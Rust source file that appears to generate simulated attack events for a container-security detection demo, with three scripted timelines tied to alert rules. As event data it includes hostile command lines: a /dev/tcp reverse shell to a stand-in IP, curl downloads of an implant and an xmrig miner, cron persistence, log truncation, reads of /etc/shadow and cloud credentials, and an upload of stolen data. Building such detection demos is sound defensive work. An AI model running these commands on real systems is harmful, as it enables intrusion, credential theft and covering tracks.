//! The three attacks of the demo: two shortly before it began, one shortly after.
//!
//! Each happens in one container and sets off several rules, the first of them below the threshold
//! of alerts: what never happened there before begins the story, and everything after is part of it.

use std::{sync::LazyLock, time::Duration};

use super::{
    roles::Command,
    rules::{CONNECTIONS, FILES, PROCESSES},
};

/// One event of an attack.
#[derive(Debug, Clone, Copy)]
pub(super) struct Step {
    /// Nanoseconds since the demo began.
    pub(super) at: i64,
    /// Name of the container.
    pub(super) container: &'static str,
    /// Name of the rule.
    pub(super) rule: &'static str,
    pub(super) process: Command,
    pub(super) deed: Deed,
}

/// What the process of a step does.
#[derive(Debug, Clone, Copy)]
pub(super) enum Deed {
    /// It starts.
    Runs,
    /// It starts, and is not part of the image.
    RunsForeign,
    Reads(&'static str),
    Writes(&'static str),
    Connects([u8; 4], u16),
    /// It gets a connection as its standard input.
    IsFedBy([u8; 4], u16),
}

/// All steps, in order of time.
pub(super) static STEPS: LazyLock<Vec<Step>> = LazyLock::new(|| {
    let mut steps = reverse_shell();
    steps.extend(miner());
    steps.extend(credentials());
    steps.sort_by_key(|step| step.at);
    steps
});

/// The steps from `start` to before `end`, in nanoseconds since the demo began.
pub(super) fn between(start: i64, end: i64) -> &'static [Step] {
    let first = STEPS.partition_point(|step| step.at < start);
    let last = STEPS.partition_point(|step| step.at < end);
    STEPS.get(first..last).unwrap_or_default()
}

/// Collects the steps of one attack.
struct Story {
    steps: Vec<Step>,
    begins: i64,
    container: &'static str,
}

impl Story {
    fn new(container: &'static str, begins: i64) -> Self {
        Self {
            steps: Vec::new(),
            begins,
            container,
        }
    }

    fn step(&mut self, after_ms: u64, rule: &'static str, process: Command, deed: Deed) {
        let after = Duration::from_millis(after_ms).as_nanos() as i64;
        self.steps.push(Step {
            at: self.begins + after,
            container: self.container,
            rule,
            process,
            deed,
        });
    }
}

const fn seconds(seconds: i64) -> i64 {
    seconds * super::NANOS
}

const fn process(
    name: &'static str,
    path: &'static str,
    line: &'static str,
    parent: &'static str,
) -> Command {
    Command {
        name,
        path,
        line,
        parent,
    }
}

const SHELL: &str = "Run shell untrusted";
const NETWORK_SHELL: &str = "Redirect STDOUT/STDIN to Network Connection in Container";
const SENSITIVE: &str = "Read sensitive file untrusted";
const DROPPED: &str = "Drop and execute new binary in container";
const OUTBOUND: &str = "Unexpected outbound connection destination";

/// Forty minutes ago, `shop-web-2`: a shell for somebody outside, then files written, then data sent
/// away.
fn reverse_shell() -> Vec<Step> {
    let mut story = Story::new("shop-web-2", seconds(-40 * 60));
    let attacker = [198, 51, 100, 23];
    let shell = process(
        "bash",
        "/bin/bash",
        "bash -c \"bash -i >& /dev/tcp/198.51.100.23/9001 0>&1\"",
        "nginx",
    );
    let interactive = process("bash", "/bin/bash", "bash -i", "bash");
    story.step(0, SHELL, shell, Deed::Runs);
    story.step(30, CONNECTIONS, interactive, Deed::Connects(attacker, 9001));
    story.step(
        40,
        NETWORK_SHELL,
        interactive,
        Deed::IsFedBy(attacker, 9001),
    );
    for (after_ms, name, path, line) in [
        (6_100, "id", "/usr/bin/id", "id"),
        (9_400, "uname", "/bin/uname", "uname -a"),
        (14_900, "ps", "/bin/ps", "ps auxf"),
    ] {
        let command = process(name, path, line, "bash");
        story.step(after_ms, "System user interactive", command, Deed::Runs);
    }
    let script = process(
        "script",
        "/usr/bin/script",
        "script -qc /bin/bash /dev/null",
        "bash",
    );
    let terminal = process("bash", "/bin/bash", "bash", "script");
    story.step(31_000, PROCESSES, script, Deed::Runs);
    story.step(31_010, super::SHELL_RULE, terminal, Deed::Runs);
    let writer = process("tee", "/usr/bin/tee", "tee /etc/cron.d/logsync", "bash");
    story.step(55_000, PROCESSES, writer, Deed::Runs);
    story.step(
        55_010,
        "Write below etc",
        writer,
        Deed::Writes("/etc/cron.d/logsync"),
    );
    let fetcher = process(
        "curl",
        "/usr/bin/curl",
        "curl -fsSo /tmp/.update http://198.51.100.23:8443/u",
        "bash",
    );
    story.step(88_000, PROCESSES, fetcher, Deed::Runs);
    story.step(88_020, CONNECTIONS, fetcher, Deed::Connects(attacker, 8443));
    story.step(88_300, FILES, fetcher, Deed::Writes("/tmp/.update"));
    let implant = process(".update", "/tmp/.update", ".update --daemon", "bash");
    story.step(97_000, DROPPED, implant, Deed::RunsForeign);
    for beat in 0..8 {
        story.step(
            110_000 + beat * 15_000,
            OUTBOUND,
            implant,
            Deed::Connects(attacker, 8443),
        );
    }
    let cleaner = process(
        "truncate",
        "/usr/bin/truncate",
        "truncate -s 0 /var/log/nginx/access.log",
        "bash",
    );
    story.step(235_000, PROCESSES, cleaner, Deed::Runs);
    story.step(
        235_010,
        "Clear Log Activities",
        cleaner,
        Deed::Writes("/var/log/nginx/access.log"),
    );
    story.steps
}

/// Twelve minutes ago, `ops-jenkins-1`: a build script fetches a miner, which works for ten minutes.
fn miner() -> Vec<Step> {
    let mut story = Story::new("ops-jenkins-1", seconds(-12 * 60));
    let pool = [203, 0, 113, 77];
    let fetcher = process(
        "curl",
        "/usr/bin/curl",
        "curl -fsSL http://203.0.113.66/x.sh -o /dev/shm/.x/x.sh",
        "sh",
    );
    let script = process("sh", "/bin/sh", "sh /dev/shm/.x/x.sh", "sh");
    let miner = process(
        "xmrig",
        "/dev/shm/.x/xmrig",
        "xmrig -o stratum+tcp://pool.example.net:3333 --donate-level 1 -B",
        "sh",
    );
    story.step(0, PROCESSES, fetcher, Deed::Runs);
    story.step(60, OUTBOUND, fetcher, Deed::Connects([203, 0, 113, 66], 80));
    story.step(400, FILES, fetcher, Deed::Writes("/dev/shm/.x/x.sh"));
    story.step(2_300, "Execution from /dev/shm", script, Deed::Runs);
    story.step(2_900, FILES, script, Deed::Writes("/dev/shm/.x/xmrig"));
    story.step(4_700, DROPPED, miner, Deed::RunsForeign);
    story.step(
        9_000,
        "Write below etc",
        script,
        Deed::Writes("/etc/cron.d/sync"),
    );
    for beat in 0..20 {
        story.step(
            12_000 + beat * 30_000,
            "Detect outbound connections to common miner pool ports",
            miner,
            Deed::Connects(pool, 3333),
        );
    }
    story.steps
}

/// A minute and a quarter after the demo began, `checkout-api-2`: a container begins to look for
/// credentials, tries what it found at the API of the cluster, and sends it away.
fn credentials() -> Vec<Step> {
    let mut story = Story::new("checkout-api-2", seconds(75));
    let shell = process("sh", "/bin/sh", "sh -c \"sh /tmp/.t/collect.sh\"", "java");
    story.step(0, SHELL, shell, Deed::Runs);
    for (after_ms, rule, line) in [
        (
            1_500,
            "Find AWS Credentials",
            "grep -r aws_secret_access_key /root /home /app",
        ),
        (
            3_700,
            "Search Private Keys or Passwords",
            "grep -ri \"BEGIN OPENSSH PRIVATE\" /root /home /app",
        ),
    ] {
        let command = process("grep", "/bin/grep", line, "sh");
        story.step(after_ms, rule, command, Deed::Runs);
    }
    let reader = process(
        "cat",
        "/bin/cat",
        "cat -- /etc/shadow /root/.aws/credentials /run/secrets/database-url",
        "sh",
    );
    story.step(10_900, PROCESSES, reader, Deed::Runs);
    for (number, (rule, path)) in [
        (SENSITIVE, "/etc/shadow"),
        (FILES, "/root/.aws/credentials"),
        (FILES, "/run/secrets/database-url"),
        (FILES, "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ]
    .into_iter()
    .enumerate()
    {
        let after_ms = 11_000 + 900 * number as u64;
        story.step(after_ms, rule, reader, Deed::Reads(path));
    }
    let asker = process(
        "curl",
        "/usr/bin/curl",
        "curl -sk -H @/tmp/.t/h https://10.96.0.1/api/v1/secrets",
        "sh",
    );
    story.step(19_900, PROCESSES, asker, Deed::Runs);
    for beat in 0..4 {
        story.step(
            20_000 + beat * 3_000,
            "Contact K8S API Server From Container",
            asker,
            Deed::Connects([10, 96, 0, 1], 443),
        );
    }
    let sender = process(
        "curl",
        "/usr/bin/curl",
        "curl -s -T /tmp/.t/out.tgz https://files.example.net/u/",
        "sh",
    );
    story.step(34_900, PROCESSES, sender, Deed::Runs);
    story.step(
        35_000,
        OUTBOUND,
        sender,
        Deed::Connects([192, 0, 2, 144], 443),
    );
    story.steps
}
